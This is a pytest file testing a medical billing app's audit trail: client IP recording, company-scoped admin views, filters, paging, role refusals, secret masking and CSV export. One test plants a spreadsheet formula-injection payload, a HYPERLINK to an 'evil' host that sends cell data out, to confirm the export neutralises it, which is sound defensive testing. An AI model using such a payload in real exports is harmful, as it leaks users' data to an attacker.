"""The audit trail a practice can review: the client address on every entry written while a request is served (no
caller passes it), and the company admin's audit view over the API and the portal: only the admin's own company's
entries, filters, paging, a CSV export whose cells cannot run as formulas, refused to every other role, and the read
itself audited."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date, timedelta

import pytest
from sqlalchemy import select, text, update

from tenants import audit
from tenants.models import AuditEntry, User
from tests.conftest import login
from tests.support.portal import sign_in


def _latest(services, **where) -> AuditEntry:
    with services.db.shared_session() as s:
        query = select(AuditEntry).filter_by(**where).order_by(AuditEntry.id.desc()).limit(1)
        return s.scalars(query).one()


def _read_patient(client, world, key: str, user: str, address: str) -> int:
    patient_id = world.patients[key][0]["id"]
    response = client.get(
        f"/api/v1/practices/{world.practices[key]}/patients/{patient_id}",
        headers=login(client, world.users[user]),
        environ_base={"REMOTE_ADDR": address},
    )
    assert response.status_code == 200, response.get_json()
    return patient_id


def test_entries_written_during_a_request_carry_the_client_address(client, services, world):
    patient_id = _read_patient(client, world, "A", "biller_x", "192.0.2.44")
    entry = _latest(services, object_type="patient", object_id=str(patient_id), action="read")
    assert entry.ip == "192.0.2.44"
    # Outside a request (a job, the CLI) nothing is carried over from the last request served on this thread.
    assert audit.current_client_address() is None
    with services.db.shared_session() as s:
        audit.record(s, user_id=None, practice_id=None, object_type="test", object_id=None, action="job")
        s.commit()
    assert _latest(services, object_type="test", action="job").ip is None


def test_behind_a_trusted_proxy_the_forwarded_client_address_is_recorded(settings, world):
    from medbill.app import create_app

    proxied = create_app(dataclasses.replace(settings, proxy_hops=1))
    proxied.config["TESTING"] = True
    services = proxied.extensions["medbill"]
    try:
        client = proxied.test_client()
        patient_id = world.patients["B"][0]["id"]
        response = client.get(
            f"/api/v1/practices/{world.practices['B']}/patients/{patient_id}",
            headers=login(client, world.users["biller_x"]) | {"X-Forwarded-For": "203.0.113.9"},
            environ_base={"REMOTE_ADDR": "10.0.0.2"},
        )
        assert response.status_code == 200
        assert _latest(services, object_type="patient", object_id=str(patient_id), action="read").ip == "203.0.113.9"
    finally:
        services.db.dispose()


@pytest.fixture()
def trail(client, services, world):
    """Reads of a patient in each company (A: company X, C: company Y) and the admin's headers."""
    read_a = _read_patient(client, world, "A", "biller_x", "192.0.2.10")
    read_c = _read_patient(client, world, "C", "biller_y", "192.0.2.20")
    return {"a": read_a, "c": read_c, "admin": login(client, world.users["admin_x"])}


def _audit(client, headers, **params):
    response = client.get("/api/v1/company/audit", headers=headers, query_string=params)
    return response


def test_the_admin_sees_only_the_company_s_entries_and_the_filters_work(client, services, world, trail):
    headers = trail["admin"]
    body = _audit(client, headers, per_page=200).get_json()
    practices = {item["practice"] for item in body["items"]}
    assert world.practices["A"] in practices
    assert world.practices["C"] not in practices
    assert not any(item["ip"] == "192.0.2.20" for item in body["items"])  # biller_y's read in practice C

    filtered = _audit(client, headers, practice=world.practices["A"], user=world.users["biller_x"],
                      object_type="patient", action="read", patient_id=trail["a"],
                      start=date.today().isoformat(), end=date.today().isoformat()).get_json()  # fmt: skip
    assert filtered["meta"]["total"] >= 1
    for item in filtered["items"]:
        assert item["practice"] == world.practices["A"] and item["user_email"] == world.users["biller_x"]
        assert (item["object_type"], item["action"], item["patient_id"]) == ("patient", "read", str(trail["a"]))
    assert filtered["items"][0]["ip"] == "192.0.2.10"
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    assert _audit(client, headers, start=tomorrow).get_json()["meta"]["total"] == 0
    # Another company's user shows only where they touched this company's practices (e.g. a refused file link).
    foreign = _audit(client, headers, user=world.users["biller_y"], per_page=200).get_json()["items"]
    assert all(item["practice"] in (world.practices["A"], world.practices["B"]) for item in foreign)
    # Paging: one entry a page, the total unchanged (patient entries only: each read of the trail adds an entry).
    first, second = (_audit(client, headers, per_page=1, page=n, object_type="patient").get_json() for n in (1, 2))
    assert len(first["items"]) == len(second["items"]) == 1 and first["items"][0]["id"] != second["items"][0]["id"]
    assert first["meta"]["total"] >= second["meta"]["total"] >= 2
    # Another company's practice is as unknown as a practice that does not exist.
    assert _audit(client, headers, practice=world.practices["C"]).status_code == 404
    assert _audit(client, headers, start="2026-02-02", end="2026-02-01").status_code == 422


def test_reading_the_trail_is_audited(client, services, world, trail):
    _audit(client, trail["admin"], practice=world.practices["A"])
    with services.db.shared_session() as s:
        admin_id = s.scalar(select(User.id).where(User.email == world.users["admin_x"]))
    entry = _latest(services, object_type="audit_log", action="read")
    assert entry.user_id == admin_id and entry.detail["filters"] == {"practice": world.practices["A"]}
    assert entry.ip is not None
    # ... and shows in the trail itself.
    body = _audit(client, trail["admin"], object_type="audit_log").get_json()
    assert body["items"][0]["user_email"] == world.users["admin_x"]


def test_the_csv_export_lists_who_read_which_patient_and_neutralises_formulas(client, services, world, factory):
    from tenants.models import BillingCompany
    from tenants.registry import get_practice

    with services.db.shared_session() as s:
        company = s.get(BillingCompany, get_practice(s, world.practices["A"]).company_id)
    email = factory.user("biller", company=company)
    with services.db.shared_session() as s:
        s.execute(update(User).where(User.email == email).values(full_name='=HYPERLINK("http://evil/?"&A1,"x")'))
        s.commit()
    patient_id = world.patients["A"][1]["id"]
    response = client.get(
        f"/api/v1/practices/{world.practices['A']}/patients/{patient_id}", headers=login(client, email)
    )
    assert response.status_code == 200
    exported = client.get(
        "/api/v1/company/audit",
        headers=login(client, world.users["admin_x"]),
        query_string={"format": "csv", "user": email},
    )
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    assert "attachment" in exported.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    read = [r for r in rows if r["object_type"] == "patient" and r["action"] == "read"]
    assert read and read[0]["patient_id"] == str(patient_id) and read[0]["user_email"] == email
    assert read[0]["practice"] == world.practices["A"]
    assert read[0]["user_name"] == "'" + '=HYPERLINK("http://evil/?"&A1,"x")'
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert _latest(services, object_type="audit_log", action="export").detail["filters"] == {"user": email}


@pytest.mark.parametrize("role", ["biller_x", "doctor_a", "agency", "biller_y"])
def test_no_other_role_may_read_the_trail(client, world, role):
    headers = login(client, world.users[role])
    assert client.get("/api/v1/company/audit", headers=headers).status_code == 403
    assert client.get("/api/v1/company/audit?format=csv", headers=headers).status_code == 403


def test_the_portal_page_filters_and_downloads_for_the_admin_only(app, services, world, trail):
    admin = app.test_client()
    sign_in(admin, world.users["admin_x"])
    page = admin.get("/company/audit", query_string={"practice": world.practices["A"], "object_type": "patient"})
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Audit trail" in html and "192.0.2.10" in html and "192.0.2.20" not in html
    download = admin.get("/company/audit", query_string={"practice": world.practices["A"], "format": "csv"})
    assert download.status_code == 200 and download.mimetype == "text/csv"
    assert world.users["biller_x"] in download.get_data(as_text=True)
    assert world.practices["C"] not in download.get_data(as_text=True)
    assert "192.0.2.20" not in download.get_data(as_text=True)
    bad = admin.get("/company/audit", query_string={"start": "not a date"})
    assert bad.status_code == 422 and "enter a date as YYYY-MM-DD" in bad.get_data(as_text=True)
    assert admin.get("/company/audit", query_string={"practice": world.practices["C"]}).status_code == 404
    biller = app.test_client()
    sign_in(biller, world.users["biller_x"])
    assert biller.get("/company/audit").status_code == 403
    assert biller.get("/company/audit?format=csv").status_code == 403


def test_the_audit_route_is_documented(client):
    spec = client.get("/api/openapi.json").get_json()
    operation = spec["paths"]["/api/v1/company/audit"]["get"]
    assert "text/csv" in operation["responses"]["200"]["content"]
    assert {p["name"] for p in operation["parameters"]} >= {"practice", "user", "patient_id", "start", "end", "format"}


def test_no_entry_is_left_without_an_address_by_a_request(client, services, world):
    """Every entry a request writes carries its address, whichever code path wrote it."""
    headers = login(client, world.users["biller_x"])  # its own entry carries the test client's address
    with services.db.shared_session() as s:
        before = s.scalar(text("SELECT coalesce(max(id), 0) FROM shared.audit_log"))
    base = f"/api/v1/practices/{world.practices['A']}"
    for path in (f"{base}/patients/{world.patients['A'][0]['id']}", f"{base}/patients", f"{base}/claims"):
        assert client.get(path, headers=headers, environ_base={"REMOTE_ADDR": "192.0.2.77"}).status_code == 200
    with services.db.shared_session() as s:
        ips = s.scalars(select(AuditEntry.ip).where(AuditEntry.id > before)).all()
    assert len(ips) >= 2 and set(ips) == {"192.0.2.77"}


IDENTITY = {
    "organization_name": "Hill Country Clinic", "tax_id": "74-1234567", "taxonomy_code": "207Q00000X",
    "address_line1": "200 Congress Ave", "city": "Austin", "state": "TX", "postal_code": "78701-1234",
    "contact_name": "Billing Office", "contact_phone": "5125550100", "clearinghouse_name": "sandbox",
    "submitter_id": "SUBMIT01", "receiver_id": "SANDBOXCH",
}  # fmt: skip


def test_a_configuration_change_is_recorded_with_its_values(client, services, factory):
    from tests.billing.factories import npi

    company = factory.company()
    practice = factory.practice(company.slug)
    headers = login(client, factory.user("biller", company=company))
    url = f"/api/v1/practices/{practice.slug}/billing-identity"
    body = IDENTITY | {"group_npi": npi()}
    assert client.put(url, headers=headers, json=body).status_code == 200
    changed = client.put(url, headers=headers, json=body | {"city": "Waco"}, environ_base={"REMOTE_ADDR": "192.0.2.5"})
    assert changed.status_code == 200
    entry = _latest(services, object_type="billing_identity", action="update")
    assert entry.detail["before"]["city"] == "Austin" and entry.detail["after"]["city"] == "Waco"
    assert entry.detail["changed"] == ["city"] and entry.ip == "192.0.2.5"


def test_secrets_in_recorded_values_are_masked():
    value = {"transport": {"host": "sftp.example", "password": "hunter2", "keys": [{"private_key": "-----BEGIN"}]}}
    assert audit.mask_secrets(value) == {
        "transport": {"host": "sftp.example", "password": "***", "keys": [{"private_key": "***"}]}
    }
    assert audit.mask_secrets({"password": ""}) == {"password": ""}  # nothing set shows as nothing set
